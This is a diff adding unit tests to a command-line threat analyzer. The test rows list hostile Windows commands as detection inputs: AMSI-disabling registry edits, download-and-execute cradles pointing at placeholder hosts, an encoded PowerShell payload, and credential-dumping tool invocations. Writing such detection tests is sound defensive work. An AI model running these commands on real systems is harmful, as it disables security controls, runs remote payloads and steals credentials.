@@ -83,6 +83,10 @@ private Q_SLOTS:
     void netExeVersusDotNetNames_data();
     void netExeVersusDotNetNames();
     void customPatternsAndAllowlist();
+    void newRulesCatch_data();
+    void newRulesCatch();
+    void contextPasses_data();
+    void contextPasses();
 };
 
 void TestCmdlineAnalyzer::initTestCase()
@@ -459,6 +463,86 @@ void TestCmdlineAnalyzer::customPatternsAndAllowlist()
     QVERIFY(patterns.retire(QStringLiteral("pattern"), QStringLiteral("beacon flag")));
     QCOMPARE(patterns.activeRules()->size(), 1);
     QVERIFY(!patterns.save(CustomRule{QStringLiteral("bogus"), QStringLiteral("x"), QStringLiteral("y"), {}, 0, 1}, {}));
+}
+
+
+// Each rule added for issue 19 (tests/fixtures/cmdline): a line it must now catch.
+void TestCmdlineAnalyzer::newRulesCatch_data()
+{
+    QTest::addColumn<QString>("line");
+    QTest::addColumn<QString>("category");
+    QTest::addColumn<QString>("minVerdict");
+    QTest::newRow("amsi off for WSH in the registry") << s("reg add \"HKCU\\Software\\Microsoft\\Windows Script\\Settings\" /v AmsiEnable /t REG_DWORD /d 0 /f") << "amsi_bypass" << "malicious";
+    QTest::newRow("amsi provider overwritten with reg add") << s("reg add \"HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2781761E-28E0-4109-99FE-B9D127C57AFE}\" /ve /t REG_SZ /d \"\" /f") << "amsi_bypass" << "malicious";
+    QTest::newRow("certutil download is a cradle") << s("certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\\Users\\Public\\p.exe") << "download_cradle" << "malicious";
+    QTest::newRow("bitsadmin download is a cradle") << s("bitsadmin /transfer j /download /priority high http://203.0.113.7/u.exe C:\\Users\\Public\\u.exe") << "download_cradle" << "suspicious";
+    QTest::newRow("msiexec remote package is a cradle") << s("msiexec /q /i http://203.0.113.7/p.msi") << "download_cradle" << "malicious";
+    QTest::newRow("curl piped into a shell") << s("curl http://203.0.113.7/p.ps1 | powershell -") << "download_cradle" << "malicious";
+    QTest::newRow("wget saves a URL") << s("wget http://203.0.113.7/m.exe -O C:\\ProgramData\\m.exe") << "download_cradle" << "benign";
+    QTest::newRow(".NET web request") << s("powershell -c \"$r=[System.Net.WebRequest]::Create('http://203.0.113.7/x');iex ([IO.StreamReader]::new($r.GetResponse().GetResponseStream())).ReadToEnd()\"") << "download_cradle" << "malicious";
+    QTest::newRow("encoding that hides a download and run") << s("powershell -e %1").arg(s("UwB0AGEAcgB0AC0AQgBpAHQAcwBUAHIAYQBuAHMAZgBlAHIAIAAtAFMAbwB1AHIAYwBlACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADcALwBiAC4AZQB4AGUAIAAtAEQAZQBzAHQAaQBuAGEAdABpAG8AbgAgACQAZQBuAHYAOgBBAFAAUABEAEEAVABBAFwAYgAuAGUAeABlADsAIAAmACAAJABlAG4AdgA6AEEAUABQAEQAQQBUAEEAXABiAC4AZQB4AGUA")) << "base64" << "malicious";
+    QTest::newRow("credential dumping tool") << s("nanodump.x64.exe --write C:\\Windows\\Temp\\n.dmp") << "credential_access" << "malicious";
+    QTest::newRow("kerberos ticket with key material") << s("Rubeus.exe asktgt /user:svc-sql /rc4:64F12CDDAA88057E06A81B54E73B949B /ptt") << "credential_access" << "malicious";
+    QTest::newRow("full dump of a process by id") << s("procdump64.exe -ma 624 C:\\Windows\\Temp\\d.dmp") << "credential_access" << "suspicious";
+    QTest::newRow("password switch next to a user switch") << s("PsExec.exe \\\\ws-0099 -u CORP\\admin -p Summer2024! cmd.exe") << "credential_access" << "suspicious";
+    QTest::newRow("net use with a password") << s("net use \\\\fs01\\C$ /user:CORP\\Administrator Secret123!") << "credential_access" << "benign";
+    QTest::newRow("user:password@host") << s("psexec.py corp/admin:Passw0rd!@10.0.5.20 cmd.exe") << "credential_access" << "benign";
+    QTest::newRow("/pass: value") << s("cmdkey /add:fs01.corp.local /user:CORP\\admin /pass:Passw0rd!") << "credential_access" << "benign";
+    QTest::newRow("runas /savecred") << s("runas /user:CORP\\admin /savecred \"cmd /c C:\\Users\\Public\\r.exe\"") << "credential_access" << "suspicious";
+    QTest::newRow("vendor installer plus a foreign URL") << s("powershell -c \"irm https://community.chocolatey.org/install.ps1 | iex; iwr http://stage.badcdn.example.com/x -OutFile x.exe\"") << "download_cradle" << "malicious";
+}
+
+void TestCmdlineAnalyzer::newRulesCatch()
+{
+    QFETCH(QString, line);
+    QFETCH(QString, category);
+    QFETCH(QString, minVerdict);
+    const AnalysisResult r = analyzer().analyze(line);
+    const Finding *f = findCategory(r, category);
+    QVERIFY2(f && f->weight > 0, qPrintable(describe(r)));
+    QVERIFY(!f->mitre.isEmpty());
+    const QStringList order = {QStringLiteral("benign"), QStringLiteral("suspicious"), QStringLiteral("malicious")};
+    QVERIFY2(order.indexOf(r.verdict) >= order.indexOf(minVerdict), qPrintable(describe(r)));
+    // A password never appears in the finding that reports it.
+    for (const Finding &x : r.findings)
+        if (x.rule == QLatin1String("cred:plain-text-password"))
+            QVERIFY2(!x.match.contains(QLatin1String("Summer2024")) && !x.match.contains(QLatin1String("Passw0rd")), qPrintable(x.match));
+}
+
+// Lines that must now pass: the context (payload, program, destination) explains them. A
+// category listed must not be found (a switch that only looks like a password).
+void TestCmdlineAnalyzer::contextPasses_data()
+{
+    QTest::addColumn<QString>("line");
+    QTest::addColumn<QString>("absentCategory");
+    QTest::addColumn<QString>("note");
+    QTest::newRow("encoded folder listing") << s("powershell -NoProfile -EncodedCommand %1").arg(s("RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgAEMAOgBcAGkAbgBlAHQAcAB1AGIAXABsAG8AZwBzAA==")) << QString() << "does nothing suspicious";
+    QTest::newRow("updater passes base64 XML") << s("\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /ping %1").arg(s("PD94bWwgdmVyc2lvbj0iMS4wIj8+PHJlcXVlc3QgcHJvdG9jb2w9IjMuMCI+PGFwcCBhcHBpZD0iezQzMEZENEQwLUI3MjktNEY2MS1BQTM0LTkxNTI2NDgxNzk5RH0iPjxldmVudCBldmVudHR5cGU9IjIiLz48L2FwcD48L3JlcXVlc3Q+")) << QString() << "";
+    QTest::newRow("certutil URL cache cleanup") << s("certutil -urlcache * delete") << "download_cradle" << "";
+    QTest::newRow("cscript runs a Windows script") << s("cscript.exe //NoLogo C:\\Windows\\System32\\slmgr.vbs /dlv") << "lolbin_proxy_execution" << "";
+    QTest::newRow("hh opens Windows help") << s("C:\\Windows\\hh.exe C:\\Windows\\Help\\mui\\0409\\mmc.CHM") << "lolbin_proxy_execution" << "";
+    QTest::newRow("vendor install one-liner") << s("powershell -ExecutionPolicy Bypass -c \"irm https://community.chocolatey.org/install.ps1 | iex\"") << QString() << "vendor's distribution domain";
+    QTest::newRow("curl -fsSL is no upload") << s("curl -fsSL -o rustup-init.exe https://static.rust-lang.org/rustup/dist/x86_64-pc-windows-msvc/rustup-init.exe") << "exfiltration" << "";
+    QTest::newRow("database port is no password") << s("mysql -h db01.corp.local -P 3306 -e \"select 1\"") << "credential_access" << "";
+    QTest::newRow("msbuild property is no password") << s("msbuild Corp.sln /p:Configuration=Release /p:Platform=x64") << "credential_access" << "";
+    QTest::newRow("runas without a password") << s("runas /user:CORP\\adm-jdoe \"mmc.exe dsa.msc\"") << "credential_access" << "";
+}
+
+void TestCmdlineAnalyzer::contextPasses()
+{
+    QFETCH(QString, line);
+    QFETCH(QString, absentCategory);
+    QFETCH(QString, note);
+    const AnalysisResult r = analyzer().analyze(line);
+    QVERIFY2(r.verdict == QLatin1String("benign"), qPrintable(describe(r)));
+    if (!absentCategory.isEmpty())
+        QVERIFY2(!findCategory(r, absentCategory), qPrintable(describe(r)));
+    if (!note.isEmpty()) {
+        bool noted = false;
+        for (const Finding &f : r.findings)
+            noted = noted || f.note.contains(note);
+        QVERIFY2(noted, qPrintable(describe(r)));
+    }
 }
 
 QTEST_GUILESS_MAIN(TestCmdlineAnalyzer)
